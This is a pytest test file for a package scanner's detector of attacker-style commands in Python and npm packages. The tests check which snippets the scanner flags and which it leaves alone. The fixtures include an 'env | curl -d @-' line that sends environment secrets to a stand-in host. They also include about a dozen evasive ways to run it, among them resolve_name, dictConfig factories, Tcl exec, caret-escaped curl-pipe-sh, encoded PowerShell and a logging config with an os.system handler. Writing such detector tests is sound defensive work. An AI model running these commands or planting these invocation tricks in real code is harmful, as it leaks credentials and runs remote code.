"""A command that only attackers write is told whoever it is handed to, if that may run it."""

import pytest
from attack_files import FETCH, npm, sdist, wheel

from ostiary.checks.behaviour.attack_command import attack_command
from ostiary.core.finding import Hit
from ostiary.core.scale import Severity
from ostiary.program.model import Program

SENDS = "env | curl -d @- https://c.example.invalid/"

WAYS = {
    "a resolver of names": f"pkgutil.resolve_name('os:system')({SENDS!r})",
    "a private one": f"unittest.mock._importer('os').system({SENDS!r})",
    "an entry point": f"importlib.metadata.EntryPoint('x', 'os:system', 'y').load()({SENDS!r})",
    "a factory in a table": f"outside.dictConfig({{'h': {{'()': 'os.system', 'command': {SENDS!r}}}}})",
    "a target in a table": f"outside.instantiate({{'_target_': 'os.system', '_args_': [{SENDS!r}]}})",
    "a list of words": f"outside.new_compiler().spawn(['sh', '-c', {SENDS!r}])",
    "bytes": f"outside.FFI().dlopen(None).system({SENDS.encode()!r})",
    "another language": f"outside.Tcl().eval('exec sh -c {{{SENDS}}}')",
    "a template of pipes": f"outside.Template().append({SENDS!r}, '--')",
    "pieces": "outside.run('curl https://' + outside.host() + '/x | ' + 's' + 'h')",
    "an encoded one": "outside.run('powershell -NoProfile -enc " + "QQBB" * 12 + "')",
    "after a harmless one": f"outside.run('true; {FETCH}')",
    "signs that a shell drops": "outside.run('c^url https://example.invalid/x | s^h')",
    "a class of the outside": f"class C(outside.Runner):\n    pass\nC().go({FETCH!r})",
}

QUIET = {
    "printed": f"print({FETCH!r})",
    "logged": f"logging.getLogger('a').info({FETCH!r})",
    "said in colours": f"rich.console.Console().print({FETCH!r})",
    "an error": f"error = outside.MissingError({FETCH!r})",
    "a help": f"parser.add_argument('--x', help={FETCH!r})",
    "a field for people": f"outside.Tool(description={FETCH!r})",
    "a pattern": f"re.compile({FETCH!r})",
    "a sentence": "outside.show('Run (curl https://example.invalid/x | sh) to install it')",
    "a document": f"outside.show('''curl fetches\n```\n{FETCH}\n```\n''')",
    "a line of a list": f"lines = outside\ndef f(lines):\n    lines.append({FETCH!r})",
    "the form alone": "outside.label('curl | sh')",
    "a harmless command": "outside.run('curl -fsS http://localhost/health')",
    "words in a row": "outside.show('find the best, start now')",
}  # fmt: skip


def told(text: str, path: str = "pkg/__init__.py") -> list[Hit]:
    names = "importlib.metadata, logging, outside, pkgutil, re, rich.console, unittest.mock"
    made = sdist if path == "setup.py" else wheel
    facts = made({path: f"import {names}\n{text}\n"}).facts
    program = next(one for one in facts if isinstance(one, Program))
    return [one for one in attack_command.run(program) if isinstance(one, Hit)]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("path", ["pkg/__init__.py", "setup.py"])
def test_it_is_told_early(way: str, path: str) -> None:
    assert [one.severity for one in told(WAYS[way], path)] == [Severity.CRITICAL]


def test_what_somebody_asks_for_weighs_less() -> None:
    found = told(f"def f():\n    outside.later({SENDS!r})")
    assert [one.severity for one in found] == [Severity.MEDIUM]


@pytest.mark.parametrize("way", QUIET)
def test_what_cannot_run_it_is_silent(way: str) -> None:
    assert told(QUIET[way]) == []


def test_tests_are_silent() -> None:
    assert told(f"import outside\noutside.check({FETCH!r})", "pkg/tests/test_a.py") == []


def test_scripts_are_no_exception() -> None:
    def of(text: str) -> list[Hit]:
        facts = npm({"index.js": text}).facts
        program = next(one for one in facts if isinstance(one, Program))
        return [one for one in attack_command.run(program) if isinstance(one, Hit)]

    runs = f"const o = require('outside');\no.spawner().go(['sh', '-c', '{SENDS}']);\n"
    assert [one.severity for one in of(runs)] == [Severity.CRITICAL]
    assert of(f"console.log('{FETCH}');\n") == []
    assert of(f"const r = require('react');\nr.createElement('pre', null, '{FETCH}');\n") == []


@pytest.mark.parametrize("kind", ["__import__('os').system", "os.system"])
def test_settings_of_a_log_are_evaluated(kind: str) -> None:
    settings = f"[loggers]\nkeys=root\n[handler_h]\nclass={kind}\nargs=({SENDS!r},)\n"
    for path in ("os.path.join(os.path.dirname(__file__), 'l.ini')", "'pkg/l.ini'"):
        call = f"import logging.config, os\nlogging.config.fileConfig({path})\n"
        facts = wheel({"pkg/__init__.py": call, "pkg/l.ini": settings}).facts
        program = next(one for one in facts if isinstance(one, Program))
        found = [one for one in attack_command.run(program) if isinstance(one, Hit)]
        assert [one.severity for one in found] == [Severity.CRITICAL]
    plain = settings.replace(kind, "StreamHandler").replace(repr(SENDS), "sys.stdout")
    facts = wheel({"pkg/__init__.py": call, "pkg/l.ini": plain}).facts
    program = next(one for one in facts if isinstance(one, Program))
    assert not program.flows
